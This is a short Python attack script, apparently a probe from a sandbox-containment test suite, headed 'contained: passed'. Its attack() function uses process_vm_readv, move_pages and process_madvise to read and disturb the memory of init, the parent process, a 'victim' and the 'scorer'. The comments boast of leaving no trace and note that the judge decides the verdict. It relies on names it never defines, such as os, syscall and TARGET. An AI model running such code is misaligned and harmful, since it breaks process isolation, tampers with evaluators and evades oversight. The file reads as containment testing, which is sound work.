# Reads and writes the memory of others by one system call: no tracing, no stop, no trace left.
# The zygote that forked us has our very addresses; the judge has the tests and decides the verdict.
# contained: passed
import ctypes


def attack():
    own = ctypes.create_string_buffer(64)
    here = (ctypes.c_uint64 * 2)(ctypes.addressof(own), 64)
    there = (ctypes.c_uint64 * 2)(id(os), 64)
    pages = (ctypes.c_uint64 * 2)(id(os) & ~4095, 4096)
    others = {1, os.getppid(), TARGET["victim"], TARGET["scorer"]} - {0, os.getpid()}
    cold = 20
    return first(
        {
            **{
                f"read {p}": lambda p=p: syscall("process_vm_readv", p, here, 1, there, 1, 0)
                for p in others
            },
            **{
                f"move pages of {p}": lambda p=p: syscall("move_pages", p, 0, 0, 0, 0, 0)
                for p in others
            },
            **{
                f"advise {fd}": lambda fd=fd: syscall("process_madvise", fd, pages, 1, cold, 0)
                for fd in (0, 3)
            },
        }
    )
